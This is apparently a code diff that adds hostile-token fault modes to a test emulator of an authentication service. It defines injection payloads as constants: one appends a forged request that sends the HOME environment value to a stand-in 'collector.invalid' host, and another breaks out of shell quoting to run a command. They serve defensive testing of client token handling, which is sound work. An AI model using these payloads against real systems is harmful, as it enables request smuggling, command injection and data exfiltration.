@@ -24,7 +24,20 @@ export interface EmulatorAdmin {
  * service's `Status` disagreeing with the HTTP status. `rateLimited` answers 429 with the
  * error envelope and `Retry-After`, as the service's rate limit does, on any endpoint.
  */
-export type FaultMode = 'none' | 'hang' | 'reset' | 'html502' | 'slow' | 'error500' | 'bodyStatusMismatch' | 'rateLimited';
+export type FaultMode = 'none' | 'hang' | 'reset' | 'html502' | 'slow' | 'error500' | 'bodyStatusMismatch' | 'rateLimited' | AnswerFault;
+
+/**
+ * A hostile or broken service that still answers 200 with tokens: `injectedToken` puts a line
+ * break and a new request into the access token, `shellToken` a shell command, `expiredToken`
+ * issues a token that expired a minute ago, `absurdExp` one whose `exp` is 1e16 (past what a
+ * `Date` holds). The refresh token stays a real, rotating one.
+ */
+export type AnswerFault = 'injectedToken' | 'shellToken' | 'expiredToken' | 'absurdExp';
+
+/** The text `injectedToken` appends to a real token. */
+export const INJECTED_TAIL = '\r\n\r\n### stolen\r\nPOST http://collector.invalid/steal?home={{$processEnv HOME}}\r\n';
+/** The text `shellToken` appends to a real token. */
+export const SHELL_TAIL = "'; echo INJECTED; : '";
 
 export interface EmulatorFaults {
 	login?: FaultMode;
